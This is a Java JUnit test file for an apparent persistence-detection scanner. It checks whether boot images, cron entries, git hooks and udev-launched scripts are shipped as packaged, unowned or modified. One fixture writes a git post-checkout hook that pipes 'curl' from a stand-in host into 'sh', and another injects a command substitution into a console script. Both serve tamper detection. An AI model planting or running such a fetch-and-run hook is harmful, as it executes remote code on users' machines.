package bzh.vigie.agent.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;

import bzh.vigie.event.Item;
import bzh.vigie.event.Item.Shipped;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class OriginsTest {
    @TempDir
    private Path root;

    @Test
    void whatTheMachineMakesOfPackagesFilesIsUnknownAndWhatNobodyShippedIsUnowned() throws IOException {
        Trees.write(root, "/var/lib/dpkg/status", "");
        Trees.write(root, "/var/lib/dpkg/info/base.list", "/.\n/usr\n");
        Trees.write(root, "/boot/initrd.img-6.12.0", "made here");
        Trees.write(root, "/boot/vmlinuz-6.12.0", "of nobody");
        Map<String, Shipped> shipped = new TreeMap<>();
        for (Item item : Scanned.linux(root, "linux.boot.image"::equals).items()) {
            shipped.put(item.name(), item.shipped());
        }
        assertEquals(
                Map.of("initrd.img-6.12.0", Shipped.UNKNOWN, "vmlinuz-6.12.0", Shipped.UNOWNED), Map.copyOf(shipped));
    }

    /** Digests are those of md5sum over "tool", "other" and "# nothing", each with the end of its line. */
    @Test
    void aProgramThatIsNotAsShippedIsToldApartFromAChangedFileThatNamesIt() throws IOException {
        Trees.write(root, "/var/lib/dpkg/status", """
                Package: tool
                Status: install ok installed
                Version: 1
                Architecture: all
                Conffiles:
                 /etc/crontab b255a6b84d8b94174b239bce6c4421ad

                """);
        Trees.write(root, "/var/lib/dpkg/info/tool.list", "/.\n/etc/crontab\n/usr/bin/tool\n/usr/bin/other\n");
        Trees.write(
                root,
                "/var/lib/dpkg/info/tool.md5sums",
                "7cfb3b1aedd632d8ae7cc974271f3652  usr/bin/tool\nba7790b1708b71cb2b61b1a30d824712  usr/bin/other\n");
        Trees.write(root, "/usr/bin/tool", "tool\n");
        Trees.write(root, "/usr/bin/other", "of somebody else\n");
        Trees.write(root, "/etc/crontab", "* * * * * root /usr/bin/tool\n* * * * * root /usr/bin/other\n");
        Map<String, String> told = new TreeMap<>();
        for (Item item : Scanned.linux(root, "linux.cron.system"::equals).items()) {
            told.put(
                    item.name(),
                    item.packageName() + " " + item.shipped() + " "
                            + item.traits().contains(Item.Trait.TARGET_MODIFIED));
        }
        assertEquals(
                Map.of("/usr/bin/tool", "tool MODIFIED false", "/usr/bin/other", "tool MODIFIED true"),
                Map.copyOf(told));
    }

    @Test
    void hooksOfASubmoduleAreRead() throws IOException {
        Trees.write(root, "/srv/app/.git/modules/lib/hooks/post-checkout", "#!/bin/sh\ncurl http://192.0.2.9 | sh\n");
        StringBuilder found = new StringBuilder();
        for (Item item : Scanned.linux(root, "linux.git.repository"::equals).items()) {
            found.append(item.source());
        }
        assertEquals("/srv/app/.git/modules/lib/hooks/post-checkout", found.toString());
    }

    /** As setupcon 1.226 of Ubuntu 24.04 wrote it; the writer's lines are those of its here-document. */
    @Test
    void aScriptThatAPackagesProgramWritesIsItsOwnAsLongAsNothingElseStandsInIt() throws IOException {
        String written = """
            #!/bin/sh

            { :
            printf '\\033%%G'\s
            } < /dev/tty${1#vcs} > /dev/tty${1#vcs}
            """;
        String writer = """
            cat >/etc/console-setup/cached_setup_terminal.sh <<EOF
            #!/bin/sh

            { :
            $commands_t
            } < /dev/tty\\${1#vcs} > /dev/tty\\${1#vcs}
            EOF
            """;
        Trees.write(
                root,
                "/var/lib/dpkg/status",
                "Package: console-setup-linux\nStatus: install ok installed\nVersion: 1\n");
        Trees.write(
                root,
                "/var/lib/dpkg/info/console-setup-linux.list",
                "/.\n/usr\n/usr/bin\n/usr/bin/setupcon\n/usr/lib/udev/rules.d/90.rules\n");
        Trees.write(root, "/usr/bin/setupcon", writer);
        String rule = "ACTION==\"add\", RUN+=\"/etc/console-setup/cached_setup_terminal.sh %k\"\n";
        Trees.write(root, "/usr/lib/udev/rules.d/90.rules", rule);
        Trees.write(
                root,
                "/var/lib/dpkg/info/console-setup-linux.md5sums",
                md5(writer) + "  usr/bin/setupcon\n" + md5(rule) + "  usr/lib/udev/rules.d/90.rules\n");
        for (Map.Entry<String, Shipped> each : Map.of(
                        written,
                        Shipped.AS_PACKAGED,
                        written + "/tmp/x\n",
                        Shipped.UNOWNED,
                        written.replace("'\\033%%G'", "'$(x)';x"),
                        Shipped.UNOWNED)
                .entrySet()) {
            Trees.write(root, "/etc/console-setup/cached_setup_terminal.sh", each.getKey());
            assertEquals(
                    each.getValue(),
                    Scanned.linux(root, "linux.udev.rules"::equals)
                            .items()
                            .getFirst()
                            .shipped(),
                    each.getKey());
        }
    }

    private static String md5(String text) {
        try {
            return HexFormat.of()
                    .formatHex(MessageDigest.getInstance("MD5").digest(text.getBytes(StandardCharsets.UTF_8)));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
